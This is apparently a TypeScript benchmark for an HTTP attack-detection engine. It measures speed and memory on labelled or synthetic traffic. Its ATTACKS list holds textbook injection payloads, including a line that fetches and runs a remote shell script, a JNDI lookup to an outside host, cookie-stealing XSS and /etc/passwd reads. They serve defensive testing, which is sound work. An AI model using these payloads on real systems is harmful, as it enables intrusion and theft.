/**
 * Analysis speed and memory:
 *   npm run bench:analysis -- [FILE.jsonl[.gz]…] [--seconds N] [--max N] [--workers N] [--per-detector] [--json]
 *
 * With corpus files (labelled-request JSONL, e.g. ../shared/corpus/*.jsonl.gz), requests
 * labelled `benign` (not weak) form the benign mix and `attack` ones the attack mix.
 * Without files, a synthetic benign/attack mix is generated (deterministic), so that the
 * bench runs on a fresh clone.
 *
 * Figures:
 *  1. engine alone on ONE core, per mix: requests/s, µs per request (median, p99, mean),
 *     points per request;
 *  2. the whole `analyze` pipeline (JSON parse + analysis + verdict line) through the
 *     worker pool: on the main thread, then with N worker threads (default: every core);
 *  3. memory: RSS and heap after loading, and peak during each phase;
 *  4. with `--per-detector`: CPU µs per benign request that each detector adds on top of
 *     point extraction alone (to find which one eats the budget).
 * Bounded in time: each timed phase runs for `--seconds` (default 3) after a warm-up that is
 * itself capped (by request count and time), the pool phase at most 4 × `--seconds`.
 * Run with `--expose-gc` (as `npm run bench` and `bench:analysis` do) for steadier memory figures.
 */
import { createReadStream } from "node:fs";
import { availableParallelism, cpus, loadavg } from "node:os";
import { createInterface } from "node:readline";
import { createGunzip } from "node:zlib";
import { BUILTIN_DETECTORS, Engine } from "../src/analysis/index.js";
import { parseJsonlRecord } from "../src/capture/files/index.js";
import type { HttpRequest } from "../src/model/index.js";
import { analyzeBatches, type Batch } from "../src/pipeline/index.js";
import { rng } from "./rng.js";

interface Options {
  files: string[];
  seconds: number;
  max: number;
  workers: number;
  json: boolean;
  perDetector: boolean;
}

/** One request of a mix: the parsed request (engine phase) and its JSONL line (pipeline phase). */
interface Item {
  readonly request: HttpRequest;
  readonly line: string;
}

interface Mix {
  readonly name: string;
  readonly items: Item[];
}

// ───────────────────────────── arguments ─────────────────────────────

function parseOptions(argv: string[]): Options {
  const o: Options = {
    files: [],
    seconds: 3,
    max: 20_000,
    workers: availableParallelism(),
    json: false,
    perDetector: false,
  };
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i]!;
    const num = (): number => {
      const v = Number(argv[++i]);
      if (!Number.isFinite(v) || v < 0) usage(`${a} needs a number`);
      return v;
    };
    if (a === "--seconds") o.seconds = num();
    else if (a === "--max") o.max = Math.max(1, Math.floor(num()));
    else if (a === "--workers") o.workers = Math.max(1, Math.floor(num()));
    else if (a === "--json") o.json = true;
    else if (a === "--per-detector") o.perDetector = true;
    else if (a === "-h" || a === "--help") usage();
    else if (a.startsWith("-")) usage(`unknown option ${a}`);
    else o.files.push(a);
  }
  return o;
}

function usage(msg?: string): never {
  if (msg !== undefined) console.error(`analysis.bench: ${msg}`);
  console.error(
    "usage: npm run bench:analysis -- [FILE.jsonl[.gz]…] [--seconds N] [--max N] [--workers N] [--per-detector] [--json]",
  );
  process.exit(msg === undefined ? 0 : 2);
}

// ───────────────────────────── inputs ─────────────────────────────

/** Keeps a uniform sample of at most `max` items (reservoir sampling). */
class Reservoir {
  readonly items: Item[] = [];
  private seen = 0;
  constructor(
    private readonly max: number,
    private readonly rand: () => number,
  ) {}
  add(it: Item): void {
    this.seen++;
    if (this.items.length < this.max) this.items.push(it);
    else {
      const j = Math.floor(this.rand() * this.seen);
      if (j < this.max) this.items[j] = it;
    }
  }
}

async function loadCorpus(files: string[], max: number): Promise<Mix[]> {
  const rand = rng(42);
  const benign = new Reservoir(max, rand);
  const attack = new Reservoir(max, rand);
  for (const f of files) {
    const raw = createReadStream(f);
    const input = f.endsWith(".gz") ? raw.pipe(createGunzip()) : raw;
    for await (const line of createInterface({ input, crlfDelay: Number.POSITIVE_INFINITY })) {
      if (line.trim().length === 0) continue;
      let o: { label?: unknown; weak?: unknown };
      try {
        o = JSON.parse(line) as typeof o;
      } catch {
        continue;
      }
      const ex = parseJsonlRecord(line, "?");
      if (typeof ex === "string") continue;
      const it = { request: ex.request, line };
      if (o.label === "benign" && o.weak !== true) benign.add(it);
      else if (o.label === "attack") attack.add(it);
    }
  }
  return [
    { name: "benign", items: benign.items },
    { name: "attack", items: attack.items },
  ].filter((m) => m.items.length > 0);
}

// Synthetic traffic: browser page loads, JSON APIs and forms; attacks of each type placed
// in query, body, headers and path. Written for this bench (textbook payload shapes).

const UAS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
];
const WORDS = (
  "shoes red running winter jacket select union station drop ship order table chair update delete " +
  "from where script alert coffee mug cat dog garden hose power drill usb cable charger laptop stand"
).split(" ");
const ATTACKS: ReadonlyArray<readonly [string, string]> = [
  ["sqli", "1' OR '1'='1"],
  ["sqli", "1 UNION SELECT null,username,password FROM users-- -"],
  ["sqli", "1; WAITFOR DELAY '0:0:5'--"],
  ["sqli", "' AND extractvalue(1,concat(0x7e,version()))-- -"],
  ["sqli", "1) AND SLEEP(5)#"],
  ["xss", "<script>alert(1)</script>"],
  ["xss", '"><img src=x onerror=alert(document.domain)>'],
  ["xss", "javascript:alert(document.cookie)"],
  ["xss", "<svg/onload=confirm(1)>"],
  ["rce", "; cat /etc/passwd"],
  ["rce", "| id"],
  ["rce", "$(curl http://203.0.113.9/x.sh | sh)"],
  ["rce", "`uname -a`"],
  ["rce", "${jndi:ldap://203.0.113.9:1389/a}"],
  ["ptrav", "../../../../etc/passwd"],
  ["ptrav", "..\\..\\..\\windows\\win.ini"],
  ["ssrf", "http://169.254.169.254/latest/meta-data/"],
  ["ssrf", "gopher://127.0.0.1:6379/_FLUSHALL"],
  ["ssrf", "file:///etc/shadow"],
  ["ssti", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"],
  ["ssti", "${T(java.lang.Runtime).getRuntime().exec('id')}"],
  ["crlf", "x\r\nSet-Cookie: session=attacker"],
  ["ldapi", "*)(uid=*))(|(uid=*"],
  ["ssi", '<!--#exec cmd="id" -->'],
];

function syntheticMixes(): Mix[] {
  const r = rng(7);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)]!;
  const words = (n: number) => Array.from({ length: n }, () => pick(WORDS)).join(" ");
  const hex = (n: number) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join("");
  const b64 = (n: number) => Buffer.from(hex(n * 2), "hex").toString("base64url");
  const browser = (host: string): [string, string][] => [
    ["Host", host],
    ["User-Agent", pick(UAS)],
    ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"],
    ["Accept-Language", "en-US,en;q=0.9,de;q=0.8"],
    ["Accept-Encoding", "gzip, deflate, br"],
    ["Sec-Ch-Ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'],
    ["Sec-Fetch-Site", "same-origin"],
    ["Referer", `https://${host}/category/${pick(WORDS)}?page=${1 + Math.floor(r() * 9)}`],
    [
      "Cookie",
      `_ga=GA1.2.${hex(10)}.${hex(10)}; session=${b64(24)}.${b64(8)}; consent=analytics%3Dyes; cart=${hex(16)}`,
    ],
  ];
  const benign = (): HttpRequest => {
    const host = pick(["shop.example.com", "api.example.com", "www.example.org"]);
    switch (Math.floor(r() * 5)) {
      case 0:
        return {
          method: "GET",
          target: `/search?q=${encodeURIComponent(words(3))}&sort=price_asc&utm_source=newsletter&utm_medium=email&gclid=${b64(30)}`,
          headers: browser(host),
          body: "",
        };
      case 1:
        return { method: "GET", target: `/static/js/app.${hex(8)}.js`, headers: browser(host), body: "" };
      case 2:
        return {
          method: "POST",
          target: "/api/v1/cart/items",
          headers: [
            ...browser(host),
            ["Content-Type", "application/json"],
            ["Authorization", `Bearer ${b64(20)}.${b64(60)}.${b64(32)}`],
          ],
          body: JSON.stringify({
            sku: `SKU-${hex(6)}`,
            qty: 1 + Math.floor(r() * 4),
            note: words(8),
            gift: { wrap: r() < 0.5, message: `Happy birthday! ${words(5)}` },
          }),
        };
      case 3:
        return {
          method: "POST",
          target: "/contact",
          headers: [...browser(host), ["Content-Type", "application/x-www-form-urlencoded"]],
          body: new URLSearchParams({
            name: "Jane O'Neil",
            email: "jane@example.org",
            message: `${words(12)} - can you select a different table & update my order?`,
          }).toString(),
        };
      default:
        return {
          method: "GET",
          target: `/products/${pick(WORDS)}-${pick(WORDS)}-${Math.floor(r() * 1e5)}?color=red&size=${40 + Math.floor(r() * 8)}`,
          headers: browser(host),
          body: "",
        };
    }
  };
  const attack = (): HttpRequest => {
    const [, p] = pick(ATTACKS);
    const base = benign();
    switch (Math.floor(r() * 5)) {
      case 0:
        return { ...base, method: "GET", target: `/item?id=${encodeURIComponent(p)}&ref=home`, body: "" };
      case 1:
        return {
          method: "POST",
          target: "/api/v1/comments",
          headers: [...base.headers, ["Content-Type", "application/json"]],
          body: JSON.stringify({ post: 12, text: p }),
        };
      case 2:
        return {
          method: "POST",
          target: "/account/update",
          headers: [...base.headers, ["Content-Type", "application/x-www-form-urlencoded"]],
          body: `display_name=${encodeURIComponent(p)}&lang=en`,
        };
      case 3:
        return { ...base, headers: [...base.headers.filter(([n]) => n !== "User-Agent"), ["User-Agent", p]] };
      default:
        return {
          ...base,
          method: "GET",
          target: `/download/${encodeURIComponent(p).replace(/%2F/g, "/")}`,
          body: "",
        };
    }
  };
  const make = (name: string, n: number, gen: () => HttpRequest): Mix => ({
    name,
    items: Array.from({ length: n }, (_, i) => {
      const request = gen();
      return { request, line: JSON.stringify({ id: `${name}-${i}`, ...request }) };
    }),
  });
  return [make("synthetic benign", 5000, benign), make("synthetic attack", 3000, attack)];
}

// ───────────────────────────── measuring ─────────────────────────────

interface Memory {
  rssMB: number;
  heapMB: number;
}

class MemoryPeak {
  rss = 0;
  heap = 0;
  sample(): void {
    const m = process.memoryUsage();
    if (m.rss > this.rss) this.rss = m.rss;
    if (m.heapUsed > this.heap) this.heap = m.heapUsed;
  }
  get mb(): Memory {
    return { rssMB: this.rss / 2 ** 20, heapMB: this.heap / 2 ** 20 };
  }
}

function gc(): void {
  (globalThis as { gc?: () => void }).gc?.();
}

interface EngineFigures {
  mix: string;
  requests: number;
  reqPerSec: number;
  medianUs: number;
  p99Us: number;
  meanUs: number;
  pointsPerReq: number;
  withHitsPct: number;
  /** CPU time of the process per request: robust to other load on the machine, unlike wall time. */
  cpuUsPerReq: number;
  peak: Memory;
}

const WARMUP_REQUESTS = 4000;

/** Engine alone, this thread: one warm-up pass (bounded), then timed passes until the time is up. */
function benchEngine(mix: Mix, seconds: number): EngineFigures {
  const engine = new Engine();
  const reqs = mix.items.map((i) => i.request);
  // Warm-up by count: the JIT needs a few thousand requests through every detector before
  // the code is optimised (a time-based warm-up is too short on a busy machine).
  const warmEnd = performance.now() + Math.max(2000, seconds * 1000);
  for (let i = 0; i < WARMUP_REQUESTS && performance.now() < warmEnd; i++)
    engine.analyze(reqs[i % reqs.length]!);
  gc();
  const peak = new MemoryPeak();
  peak.sample();
  const maxSamples = 2_000_000;
  const samples = new Float64Array(maxSamples);
  let n = 0;
  let points = 0;
  let withHits = 0;
  const cpu0 = process.cpuUsage();
  const t0 = performance.now();
  const end = t0 + seconds * 1000;
  outer: for (;;) {
    for (const req of reqs) {
      const a = performance.now();
      const r = engine.analyze(req);
      const b = performance.now();
      samples[n++] = b - a;
      points += r.points;
      if (r.hits.length > 0) withHits++;
      if ((n & 1023) === 0) peak.sample();
      if (n >= maxSamples || (b > end && n >= Math.min(reqs.length, 1000))) break outer;
    }
  }
  const wall = performance.now() - t0;
  const cpu = process.cpuUsage(cpu0);
  peak.sample();
  const sorted = samples.subarray(0, n).sort();
  const q = (f: number) => sorted[Math.min(n - 1, Math.floor(f * n))]! * 1000;
  let sum = 0;
  for (let i = 0; i < n; i++) sum += sorted[i]!;
  return {
    mix: mix.name,
    requests: n,
    reqPerSec: (n * 1000) / wall,
    medianUs: q(0.5),
    p99Us: q(0.99),
    meanUs: (sum * 1000) / n,
    pointsPerReq: points / n,
    withHitsPct: (100 * withHits) / n,
    cpuUsPerReq: (cpu.user + cpu.system) / n,
    peak: peak.mb,
  };
}

interface PipelineFigures {
  workers: number;
  requests: number;
  /** Over the whole phase, thread start-up and JIT warm-up included. */
  reqPerSec: number;
  /** After a thousand requests per thread (start-up and warm-up done); NaN if not reached in time. */
  steadyReqPerSec: number;
  /** CPU time of all threads per request (includes messaging and thread start-up). */
  cpuUsPerReq: number;
  peak: Memory;
}

/**
 * Batches of whole JSONL lines (~256 KiB, as `analyze` reads files), repeated until
 * `done()` says the time is up.
 */
async function* lineBatches(lines: string[], done: () => boolean): AsyncGenerator<Batch> {
  const target = 256 * 1024;
  let line = 1;
  for (;;) {
    let cur: string[] = [];
    let size = 0;
    for (const l of lines) {
      cur.push(l);
      size += l.length + 1;
      if (size >= target) {
        yield { kind: "lines", input: 0, file: "bench", firstLine: line, text: `${cur.join("\n")}\n` };
        line += cur.length;
        cur = [];
        size = 0;
        if (done()) return;
      }
    }
    if (cur.length > 0) {
      yield { kind: "lines", input: 0, file: "bench", firstLine: line, text: `${cur.join("\n")}\n` };
      line += cur.length;
    }
    if (done()) return;
  }
}

async function benchPipeline(lines: string[], workers: number, seconds: number): Promise<PipelineFigures> {
  gc();
  const peak = new MemoryPeak();
  peak.sample();
  const timer = setInterval(() => peak.sample(), 50);
  // The sustained rate is measured once every thread has finished a couple of batches
  // (threads started, code warmed up); the time budget counts from there, with a hard cap.
  // Each thread warms its own JIT: count a thousand requests per thread as warm-up.
  const warmRequests = 1000 * Math.max(1, workers);
  let steadyAt: number | undefined;
  let steadyReqs = 0;
  const cpu0 = process.cpuUsage();
  const t0 = performance.now();
  const done = () => {
    const now = performance.now();
    return now > t0 + 4 * seconds * 1000 || (steadyAt !== undefined && now > steadyAt + seconds * 1000);
  };
  try {
    const stats = await analyzeBatches(lineBatches(lines, done), workers, {
      workers,
      // Verdict lines are built (that is part of the cost) and dropped.
      write: () => {},
      onProgress: (p) => {
        if (steadyAt === undefined && p.requests >= warmRequests) {
          steadyAt = performance.now();
          steadyReqs = p.requests;
        }
      },
    });
    const tEnd = performance.now();
    const cpu = process.cpuUsage(cpu0);
    peak.sample();
    const steadyN = stats.requests - steadyReqs;
    return {
      workers,
      requests: stats.requests,
      reqPerSec: (stats.requests * 1000) / (tEnd - t0),
      steadyReqPerSec:
        steadyAt !== undefined && steadyN > 0 ? (steadyN * 1000) / (tEnd - steadyAt) : Number.NaN,
      cpuUsPerReq: (cpu.user + cpu.system) / Math.max(1, stats.requests),
      peak: peak.mb,
    };
  } finally {
    clearInterval(timer);
  }
}

interface DetectorCost {
  type: string;
  cpuUsPerReq: number;
}

/** CPU time per request of an engine, over a bounded time after a short warm-up. */
function cpuPerRequest(engine: Engine, reqs: readonly HttpRequest[], ms: number): number {
  const warmEnd = performance.now() + ms;
  for (let i = 0; i < WARMUP_REQUESTS / 4 && performance.now() < warmEnd; i++)
    engine.analyze(reqs[i % reqs.length]!);
  const cpu0 = process.cpuUsage();
  const end = performance.now() + ms;
  let n = 0;
  for (;;) {
    for (const r of reqs) {
      engine.analyze(r);
      n++;
      if ((n & 63) === 0 && performance.now() > end) break;
    }
    if (performance.now() > end) break;
  }
  const cpu = process.cpuUsage(cpu0);
  return (cpu.user + cpu.system) / n;
}

/** What each detector adds to point extraction alone (no detector), on one mix. */
function benchPerDetector(mix: Mix, seconds: number): { baseline: number; costs: DetectorCost[] } {
  const reqs = mix.items.map((i) => i.request);
  const ms = Math.max(200, (seconds * 1000) / 4);
  // Point extraction alone, measured before and after (the lower is the better-warmed one).
  const before = cpuPerRequest(new Engine({ detectors: [] }), reqs, ms);
  const single = BUILTIN_DETECTORS.map((d) => ({
    type: d.type,
    total: cpuPerRequest(new Engine({ detectors: [d] }), reqs, ms),
  }));
  const baseline = Math.min(before, cpuPerRequest(new Engine({ detectors: [] }), reqs, ms));
  const costs = single.map((d) => ({ type: d.type, cpuUsPerReq: d.total - baseline }));
  costs.sort((a, b) => b.cpuUsPerReq - a.cpuUsPerReq);
  return { baseline, costs };
}

// ───────────────────────────── report ─────────────────────────────

async function main(): Promise<void> {
  const o = parseOptions(process.argv.slice(2));
  const t = performance.now();
  const mixes = o.files.length > 0 ? await loadCorpus(o.files, o.max) : syntheticMixes();
  if (mixes.length === 0) usage("no labelled request found in the files");
  gc();
  const loaded = process.memoryUsage();
  const env = {
    node: process.version,
    cpu: cpus()[0]?.model ?? "?",
    cores: availableParallelism(),
    load1: loadavg()[0] ?? 0,
    gcExposed: typeof (globalThis as { gc?: unknown }).gc === "function",
    inputs: o.files.length > 0 ? o.files : ["synthetic"],
    loadSeconds: (performance.now() - t) / 1000,
    afterLoad: { rssMB: loaded.rss / 2 ** 20, heapMB: loaded.heapUsed / 2 ** 20 },
  };
  if (!o.json) {
    console.log(
      `node ${env.node} · ${env.cpu} · ${env.cores} cores · load ${env.load1.toFixed(2)} · inputs: ${env.inputs.join(", ")}`,
    );
    console.log(
      `loaded ${mixes.map((m) => `${m.items.length} ${m.name}`).join(", ")} in ${env.loadSeconds.toFixed(1)} s; ` +
        `RSS ${env.afterLoad.rssMB.toFixed(0)} MB, heap ${env.afterLoad.heapMB.toFixed(0)} MB` +
        (env.gcExposed ? "" : " (run with --expose-gc for steadier memory figures)"),
    );
    console.log(`\nEngine alone, one core (${o.seconds} s per mix)`);
    console.log(
      `  ${"mix".padEnd(18)} ${"req/s".padStart(9)} ${"median µs".padStart(10)} ${"p99 µs".padStart(9)} ${"mean µs".padStart(8)} ${"cpu µs".padStart(7)} ${"points".padStart(7)} ${"hit %".padStart(6)} ${"peak RSS".padStart(9)} ${"peak heap".padStart(10)}`,
    );
  }
  const engine: EngineFigures[] = [];
  for (const m of mixes) {
    const f = benchEngine(m, o.seconds);
    engine.push(f);
    if (!o.json) {
      console.log(
        `  ${f.mix.padEnd(18)} ${Math.round(f.reqPerSec).toString().padStart(9)} ${f.medianUs.toFixed(1).padStart(10)} ${f.p99Us.toFixed(1).padStart(9)} ${f.meanUs.toFixed(1).padStart(8)} ${f.cpuUsPerReq.toFixed(1).padStart(7)} ${f.pointsPerReq.toFixed(1).padStart(7)} ${f.withHitsPct.toFixed(1).padStart(6)} ${`${f.peak.rssMB.toFixed(0)} MB`.padStart(9)} ${`${f.peak.heapMB.toFixed(0)} MB`.padStart(10)}`,
      );
    }
  }
  let perDetector: { mix: string; baseline: number; costs: DetectorCost[] } | undefined;
  const benignMix = mixes.find((m) => m.name.includes("benign")) ?? mixes[0]!;
  if (o.perDetector) {
    perDetector = { mix: benignMix.name, ...benchPerDetector(benignMix, o.seconds) };
    if (!o.json) {
      console.log(`\nPer detector, ${benignMix.name} mix: cpu µs/request added to point extraction alone`);
      console.log(`  ${"(points only)".padEnd(18)} ${perDetector.baseline.toFixed(2).padStart(8)}`);
      for (const c of perDetector.costs)
        console.log(`  ${c.type.padEnd(18)} ${c.cpuUsPerReq.toFixed(2).padStart(8)}`);
    }
  }
  const lines = mixes.flatMap((m) => m.items.map((i) => i.line));
  if (!o.json)
    console.log(
      `\nPipeline (JSON parse + analysis + verdict line), all mixes together (${o.seconds} s each)`,
    );
  const pipeline: PipelineFigures[] = [];
  for (const w of [0, o.workers]) {
    const f = await benchPipeline(lines, w, o.seconds);
    pipeline.push(f);
    if (!o.json) {
      const label = w === 0 ? "main thread" : `${w} worker threads`;
      console.log(
        `  ${label.padEnd(18)} ${(Number.isNaN(f.steadyReqPerSec) ? "n/a" : Math.round(f.steadyReqPerSec).toString()).padStart(9)} req/s sustained, ${Math.round(f.reqPerSec)} with start-up; ${f.cpuUsPerReq.toFixed(1)} cpu µs/req  (${f.requests} requests; peak RSS ${f.peak.rssMB.toFixed(0)} MB, heap ${f.peak.heapMB.toFixed(0)} MB)`,
      );
    }
  }
  const maxRssMB = process.resourceUsage().maxRSS / 1024;
  if (o.json) console.log(JSON.stringify({ env, engine, perDetector, pipeline, maxRssMB }));
  else {
    const [one, many] = pipeline;
    if (one !== undefined && many !== undefined && one.steadyReqPerSec > 0 && many.steadyReqPerSec > 0) {
      console.log(
        `  speed-up with ${many.workers} workers (sustained): ×${(many.steadyReqPerSec / one.steadyReqPerSec).toFixed(2)}`,
      );
    }
    console.log(`\npeak RSS of the whole run: ${maxRssMB.toFixed(0)} MB`);
    const load = loadavg()[0] ?? 0;
    if (load > env.cores) {
      console.log(
        `note: load average ${load.toFixed(1)} on ${env.cores} cores: other work shared the CPU, wall-clock ` +
          "figures (req/s, median, p99) are pessimistic; cpu µs/req is the steadier figure",
      );
    }
  }
}

main().catch((e) => {
  console.error(e);
  process.exit(1);
});
